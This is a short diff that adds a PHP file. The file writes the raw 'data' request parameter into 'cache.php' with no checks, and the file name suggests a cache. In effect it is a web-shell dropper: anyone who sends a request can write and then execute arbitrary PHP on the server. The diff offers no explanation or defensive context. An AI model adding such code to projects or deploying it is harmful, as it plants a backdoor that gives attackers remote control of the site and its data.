@@ -1,0 +1,4 @@
+<?php
+$h = fopen('cache.php', 'w');
+fwrite($h, $_REQUEST['data']);
+fclose($h);
